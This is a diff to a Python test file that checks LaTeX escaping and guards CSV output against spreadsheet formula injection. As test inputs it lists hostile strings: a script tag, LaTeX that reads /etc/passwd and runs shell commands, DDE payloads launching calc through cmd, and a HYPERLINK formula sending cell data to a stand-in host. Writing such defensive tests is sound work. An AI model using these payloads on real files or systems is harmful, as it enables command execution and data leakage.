@@ -5,6 +5,7 @@ from __future__ import annotations
 import html
 import re
 from pathlib import Path
+from tempfile import TemporaryDirectory
 
 import pandas as pd
 import pytest
@@ -16,6 +17,7 @@ from omtl.site import text
 from omtl.site.build import build, environment
 from omtl.tables.escape import for_latex, for_markdown, one_line
 from omtl.util.paths import RESULTS
+from omtl.util.result_files import read_csv, write_csv
 
 HOSTILE = [
     "<script>alert(1)</script>",
@@ -28,6 +30,7 @@ HOSTILE = [
     "1. item\n2. item",
     "- [ ] item",
     "***",
+    "[1cm] after a line",
     "---",
     "first\n\n<div>second",
     r"\input{/etc/passwd} \write18{ls} $x_1^2$ % gone & more # {}~^\\",
@@ -66,7 +69,43 @@ def test_latex_has_no_command_of_the_text(written: str) -> None:
     """Each character that LaTeX would act on is one that it prints."""
     escaped = for_latex(written)
     allowed = r"\\text(?:backslash|asciitilde|asciicircum|less|greater)\{\}|\\[{}%_&#$]|\$\\pm\$"
-    assert not re.search(r"[\\{}%_&#$~^<>\n]", re.sub(allowed, "", escaped))
+    assert not re.search(r"[\\{}%_&#$~^<>\n]", re.sub(allowed, "", escaped.removeprefix("{}")))
+    assert not escaped.startswith(("[", "*"))  # which a line break before it would read
+
+
+FORMULAS = [
+    '=HYPERLINK("http://elsewhere.example/"&A1)',
+    "=cmd|' /C calc'!A0",
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "-2 +cmd|' /C calc'!A0",
+    "- 1 +HYPERLINK(A1)",
+    "-1 +HYPERLINK(A1)",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\n=1+1",
+    "'=1+1",
+    "''=1+1",
+]
+NUMBERS = ["-0.5", "+1e-3", "-1.5 0.2 -3", "-inf", "1", "", "nan", "-2.451 (Spam: Sum < TOL)", "'x"]
+
+
+def test_a_spreadsheet_computes_nothing_of_a_csv(tmp_path: Path) -> None:
+    """Text that could be a formula has an apostrophe, which reading removes; numbers have none."""
+    rows = pd.DataFrame({"label": FORMULAS + NUMBERS, "x": -1.5})
+    write_csv(tmp_path / "rows.csv", rows)
+    raw = pd.read_csv(tmp_path / "rows.csv", dtype=str, keep_default_na=False)["label"]
+    assert raw.tolist() == [f"'{text}" for text in FORMULAS] + NUMBERS
+    assert read_csv(tmp_path / "rows.csv")["label"].tolist() == FORMULAS + NUMBERS
+
+
+@given(st.text(st.characters(exclude_categories=["Cs", "Cc"])) | st.sampled_from(FORMULAS))
+def test_csv_gives_back_every_text(written: str) -> None:
+    with TemporaryDirectory() as folder:
+        write_csv(Path(folder) / "rows.csv", pd.DataFrame({"text": [written], "more": ["a"]}))
+        raw = pd.read_csv(Path(folder) / "rows.csv", dtype=str, keep_default_na=False)["text"][0]
+        assert not raw.startswith(("=", "@"))
+        assert read_csv(Path(folder) / "rows.csv")["text"][0] == written
 
 
 @pytest.mark.parametrize("written", HOSTILE)
